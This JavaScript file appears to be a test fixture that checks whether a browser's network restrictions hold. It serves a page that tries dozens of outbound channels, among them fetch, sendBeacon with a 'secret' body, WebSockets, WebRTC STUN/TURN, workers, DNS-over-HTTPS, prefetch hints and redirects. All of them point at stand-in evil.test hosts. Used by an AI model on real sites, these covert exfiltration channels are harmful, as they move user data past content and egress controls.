// A page that tries every way a browser has to reach what no rule names. Each way has a name below evil.test, so that the
// internet can tell which of them got through.

const EVIL = '198.51.100.66';
const SHOP = '203.0.113.10';

/** Way → what the internet counts of it (seen.mjs), where it is not a request of NAME.evil.test. */
const COUNTED = {
  'dns-prefetch': 'dns dns-prefetch.evil.test',
  preconnect: 'dns preconnect.evil.test',
  webtransport: `udp ${EVIL}:443`,
  stun: `udp ${EVIL}:3478`,
  'turn-udp': `udp ${EVIL}:9999`,
  'turn-tcp': `tcp ${EVIL}:3478`,
  'turn-tls': `tcp ${EVIL}:5349`,
  'ice-candidate': `udp ${EVIL}:123`,
  'doh-fetch': 'tcp 8.8.8.8:443',
  'other-port': `tcp ${SHOP}:8443`,
  address: 'tcp 198.51.100.67:443',
  neighbour: 'host neighbour.test',
};

/** Runs in the page: starts everything, and says of each way what came of it. */
async function tryAll(evil, shop) {
  const at = (way) => `https://${way}.evil.test/`;
  const out = {};
  const within = (promise) => Promise.race([promise, new Promise((ok) => setTimeout(() => ok('nothing in 15 s'), 15000))]);
  const element = (tag, fields, parent = document.body) =>
    new Promise((ok) => {
      const e = Object.assign(document.createElement(tag), { onload: () => ok('loaded'), onerror: () => ok('error'), ...fields });
      parent.append(e);
    });
  /** Events do not tell of a frame whether it was an error page. */
  const quiet = (tag, fields, parent) => element(tag, fields, parent).then((what) => (what === 'loaded' ? 'some page' : what));
  const reached = (promise) => promise.then(() => 'reached', (e) => e.name);
  const said = (target) => new Promise((ok) => ((target.onmessage = (e) => ok(e.data)), (target.onerror = () => ok('error'))));
  const script = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const ice = async (server, candidate) => {
    const [a, b] = [new RTCPeerConnection({ iceServers: server ? [server] : [] }), new RTCPeerConnection()];
    a.createDataChannel('x');
    const gathered = new Promise((ok) => (a.onicegatheringstatechange = () => a.iceGatheringState === 'complete' && ok('gathered')));
    const relayed = new Promise((ok) => (a.onicecandidate = (e) => / (srflx|relay) /.test(e.candidate?.candidate ?? '') && ok('reached')));
    await a.setLocalDescription(await a.createOffer());
    await b.setRemoteDescription(a.localDescription);
    await b.setLocalDescription(await b.createAnswer());
    await a.setRemoteDescription(b.localDescription);
    if (candidate) {
      await a.addIceCandidate({ candidate, sdpMid: '0' });
      return new Promise((ok) => (a.oniceconnectionstatechange = () => ['failed', 'disconnected', 'connected'].includes(a.iceConnectionState) && ok(a.iceConnectionState)));
    }
    return Promise.race([gathered, relayed]);
  };
  const turn = (what) => ice({ urls: what, username: 'u', credential: 'c' });
  const style = (text) => {
    const e = document.createElement('style');
    e.textContent = text;
    document.head.append(e);
  };
  const frame = (name) => element('iframe', { name, src: 'about:blank' });

  const ways = {
    fetch: () => reached(fetch(at('fetch'), { mode: 'no-cors' })),
    keepalive: () => reached(fetch(at('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'secret' })),
    xhr: () => new Promise((ok) => ((x) => ((x.onloadend = () => ok(x.status ? 'reached' : 'error')), x.open('GET', at('xhr')), x.send()))(new XMLHttpRequest())),
    websocket: () => new Promise((ok) => ((s) => ((s.onopen = () => ok('reached')), (s.onerror = () => ok('error'))))(new WebSocket('wss://websocket.evil.test/ws'))),
    eventsource: () => new Promise((ok) => ((s) => (s.onerror = () => (s.close(), ok('error'))))(new EventSource(at('eventsource')))),
    beacon: () => (navigator.sendBeacon(at('beacon'), 'secret'), 'sent'),
    img: () => element('img', { src: at('img') }),
    srcset: () => element('img', { srcset: `${at('srcset')} 1x` }),
    'svg-image': () => element('img', { src: at('svg-image') + 'x.svg' }),
    'input-image': () => element('input', { type: 'image', src: at('input-image') }),
    script: () => element('script', { src: at('script') }),
    module: () => import(at('module')).then(() => 'reached', (e) => e.name),
    stylesheet: () => element('link', { rel: 'stylesheet', href: at('stylesheet') }),
    'css-import': () => style(`@import url(${at('css-import')});`),
    'css-image': () => style(`h1 { background: url(${at('css-image')}) }`),
    font: () => reached(new FontFace('x', `url(${at('font')})`).load()),
    video: () => element('video', { src: at('video') }),
    audio: () => element('audio', { src: at('audio') }),
    poster: () => void document.body.append(Object.assign(document.createElement('video'), { poster: at('poster') })),
    iframe: () => quiet('iframe', { src: at('iframe') }),
    object: () => quiet('object', { data: at('object') }),
    embed: () => quiet('embed', { src: at('embed') }),
    download: () => void element('iframe', { src: `${at('download')}files/report.bin` }),
    'meta-refresh': () => quiet('iframe', { srcdoc: `<meta http-equiv=refresh content="0;url=${at('meta-refresh')}">` }),
    form: async () => {
      await frame('form-target');
      const f = Object.assign(document.createElement('form'), { action: at('form'), method: 'post', target: 'form-target' });
      document.body.append(f);
      f.submit();
    },
    ping: () => {
      const a = Object.assign(document.createElement('a'), { href: '#', ping: at('ping') });
      document.body.append(a);
      a.click();
    },
    'redirect-fetch': () => reached(fetch(`/redirect?to=${at('redirect-fetch')}`, { mode: 'no-cors' })),
    'redirect-frame': () => quiet('iframe', { src: `/redirect?to=${at('redirect-frame')}` }),
    preload: () => element('link', { rel: 'preload', as: 'image', href: at('preload') }, document.head),
    prefetch: () => void element('link', { rel: 'prefetch', href: at('prefetch') }, document.head),
    modulepreload: () => element('link', { rel: 'modulepreload', href: at('modulepreload') }, document.head),
    preconnect: () => void element('link', { rel: 'preconnect', href: at('preconnect') }, document.head),
    'dns-prefetch': () => void element('link', { rel: 'dns-prefetch', href: '//dns-prefetch.evil.test' }, document.head),
    worker: () => said(new Worker(script(`fetch('${at('worker')}', { mode: 'no-cors' }).then(() => postMessage('reached'), (e) => postMessage(e.name))`))),
    importscripts: () => said(new Worker(script(`importScripts('${at('importscripts')}')`))),
    sharedworker: () =>
      said(new SharedWorker(script(`onconnect = (c) => fetch('${at('sharedworker')}', { mode: 'no-cors' }).then(() => c.ports[0].postMessage('reached'), (e) => c.ports[0].postMessage(e.name))`)).port),
    serviceworker: async () => {
      const registration = await navigator.serviceWorker.register('/leaks.sw.js');
      await navigator.serviceWorker.ready;
      const heard = said(navigator.serviceWorker);
      navigator.serviceWorker.startMessages();
      registration.active.postMessage(at('serviceworker'));
      return heard;
    },
    webtransport: () => reached(new WebTransport(`https://${evil}/`).ready),
    stun: () => ice({ urls: `stun:${evil}:3478` }),
    'turn-udp': () => turn(`turn:${evil}:9999?transport=udp`),
    'turn-tcp': () => turn(`turn:${evil}:3478?transport=tcp`),
    'turn-tls': () => turn(`turns:${evil}:5349?transport=tcp`),
    'ice-candidate': () => ice(null, `candidate:1 1 udp 2122260223 ${evil} 123 typ host`),
    'doh-fetch': () => reached(fetch('https://8.8.8.8/dns-query?dns=AAABAAABAAAAAAAABGV2aWwEdGVzdAAAAQAB', { mode: 'no-cors' })),
    'other-port': () => reached(fetch(`https://${shop}:8443/echo`, { mode: 'no-cors' })),
    address: () => reached(fetch('https://198.51.100.67/', { mode: 'no-cors' })),
    neighbour: () => reached(fetch('https://cdn.test/echo', { mode: 'no-cors' }).then(() => fetch('https://neighbour.test/', { mode: 'no-cors' }))),
    'csp-report': () => 'sent by the page’s header',
    'link-header': () => 'asked for by the page’s header',
  };
  await Promise.all(
    Object.entries(ways).map(async ([way, f]) => {
      try {
        out[way] = (await within(f())) ?? 'started';
      } catch (e) {
        out[way] = e.name;
      }
    }),
  );
  return out;
}

/** Everything the page tries: {way: what is counted}. */
export const LEAKS = Object.fromEntries([...String(tryAll).matchAll(/^ {4}'?([\w-]+)'?: (?:async )?\(\) =>/gm)].map((m) => [m[1], COUNTED[m[1]] ?? `host ${m[1]}.evil.test`]));

export const leakPages = {
  '/leaks': (req, res) => {
    res.writeHead(200, {
      'content-type': 'text/html; charset=utf-8',
      'cache-control': 'no-store',
      'content-security-policy-report-only': "img-src 'none'; report-uri https://csp-report.evil.test/",
      link: '<https://link-header.evil.test/x.css>; rel=preload; as=style',
    });
    res.end(`<!doctype html><title>Leaks</title><h1>Leaks</h1><pre id="out"></pre><script>
(${tryAll})('${EVIL}', 'shop.test').then((out) => { document.querySelector('#out').textContent = JSON.stringify(out); document.title = 'Leaks done'; });
</script>`);
  },
  '/leaks.sw.js': (req, res) => {
    res.writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'no-store' });
    res.end(`onmessage = (e) => fetch(e.data, { mode: 'no-cors' }).then(() => e.source.postMessage('reached'), (x) => e.source.postMessage(x.name));`);
  },
  '/redirect': (req, res) => {
    res.writeHead(302, { location: new URL(req.url, 'http://x').searchParams.get('to') });
    res.end();
  },
};
